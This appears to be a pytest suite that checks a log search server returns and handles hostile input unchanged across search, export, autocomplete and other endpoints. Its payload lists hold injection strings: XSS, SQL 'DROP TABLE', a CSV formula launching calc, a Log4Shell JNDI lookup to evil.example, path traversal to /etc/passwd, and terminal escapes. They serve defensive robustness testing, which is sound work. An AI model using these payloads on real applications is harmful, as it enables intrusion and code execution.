"""Whatever an attacker writes comes back as it was, in each answer, and breaks none of them."""

import json
from collections.abc import Generator
from pathlib import Path
from typing import Any

import pytest
from tests.server.conftest import Asker, server

PAYLOADS = (
    "<script>alert(1)</script>",
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egnp.exe",
    "__proto__",
    "'; DROP TABLE checkpoints; --",
    "a\x00b",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "\U0001f600 ☃ 侵入",
    'quote " backslash \\ (or) and: not *',
    "x" * 300_000,
)
FIELDS = ("user.name", "message", "url.path", "honeypot.command", "user_agent.original", "event.action")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Generator[Asker]:
    file = tmp_path_factory.mktemp("hostile") / "app.ndjson"
    rows: list[dict[str, Any]] = [
        {"@timestamp": f"2026-11-22T21:00:{number:02}Z", "number": number, "source": {"ip": "192.0.2.1"}} | dict.fromkeys(FIELDS, payload)
        for number, payload in enumerate(PAYLOADS)
    ]
    rows.append(
        {"@timestamp": "2026-11-22T21:01:00Z", "number": 99, "__proto__": {"x": 1}, "<img src=x onerror=alert(1)>": 1, "a'b\"c": "1"}
    )
    file.write_text("".join(json.dumps(row) + "\n" for row in rows))
    with server(tmp_path_factory.mktemp("server") / "data") as ask:
        assert ask.take_in(file)["events"] == len(rows)
        yield ask


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_a_row_comes_back_as_it_was(hostile: Asker, number: int) -> None:
    row = hostile.post("/search", query=f"number: {number}")["rows"][0]
    assert {row["source"][name] for name in FIELDS} == {PAYLOADS[number]}
    full = hostile.get(f"/row/{row['index']}/{row['id']}")
    assert full["json"]["message"] == PAYLOADS[number]
    assert full["raw"] is not None


@pytest.mark.parametrize("name", FIELDS)
def test_what_a_field_holds_is_counted_and_filtered_by(hostile: Asker, name: str) -> None:
    values = hostile.post("/field_values", field=name, size=50)
    assert values["exists"] == len(PAYLOADS)
    for one in values["top"]:
        pill = {"kind": "is", "field": name, "value": one["value"]}
        assert hostile.post("/search", filters=[pill], size=0)["total"] >= 1
    shown = hostile.post("/histogram", breakdown=name)
    assert sum(bar["count"] for bar in shown["bars"]) == len(PAYLOADS) + 1


def test_values_are_completed_so_that_they_can_be_asked(hostile: Asker) -> None:
    query = "user.name: "
    for one in hostile.post("/complete", query=query, cursor=len(query))["suggestions"]:
        if len(one["text"]) < 1_000:
            assert hostile.post("/search", query=query + one["text"], size=0)["total"] >= 1, one


def test_other_answers_stand(hostile: Asker) -> None:
    assert hostile.post("/patterns")["seen"] == len(PAYLOADS)
    assert hostile.get("/peer/192.0.2.1")["rows"] == len(PAYLOADS)
    assert hostile.post("/fields")["fields"]
    span: dict[str, Any] = {"from": "2026-11-22T21:00:05Z", "to": "2026-11-22T21:02:00Z"}
    hostile.post("/compare", **span)
    hostile.get("/home")
    hostile.get("/findings")
    assert len(hostile.client.get("/api/v1/export").content.splitlines()) == len(PAYLOADS) + 1
    text = hostile.client.get("/api/v1/export", params={"format": "csv", "fields": "user.name"}).text
    assert "'=cmd" in text


@pytest.mark.parametrize(
    "name", ["__proto__", "<img src=x onerror=alert(1)>", "a'b\"c", "constructor", "", "*", "x" * 5_000, "\x00", "\u202e"]
)
def test_any_name_of_a_field_may_be_asked(hostile: Asker, name: str) -> None:
    hostile.post("/field_values", field=name)
    hostile.post("/search", filters=[{"kind": "exists", "field": name}], size=0)
    hostile.post("/aggregate", aggs={name: {"terms": {"field": name}}})


@pytest.mark.parametrize("index", ["'; DROP TABLE x", "../../etc", "<b>", "\x00", "a" * 10_000])
def test_any_name_of_an_index_may_be_asked(hostile: Asker, index: str) -> None:
    hostile.post("/search", 404, index=index)


@pytest.mark.parametrize(
    "body", [b"", b"[]", b"{", b"null", b'{"query": 5}', b'{"sort": [{"field": "a", "descending": "x"}]}', b"\xff\xfe", b'{"from": {}}']
)
def test_a_broken_request_is_told_what_is_wrong(hostile: Asker, body: bytes) -> None:
    answer = hostile.client.post("/api/v1/search", content=body, headers={"content-type": "application/json"})
    assert answer.status_code == 400
    assert answer.json()["error"]["where"].startswith("body")


def test_logs_in_files_with_hostile_names(ask: Asker, tmp_path: Path) -> None:
    file = tmp_path / "<img src=x>\x1b[31m'\".ndjson"
    file.write_text('{"@timestamp": "2026-11-22T22:00:00Z", "n": 1}\n')
    job = ask.take_in(file)
    assert job["state"] == "done"
    assert ask.get("/rejects", path=str(file))["total"] == 0
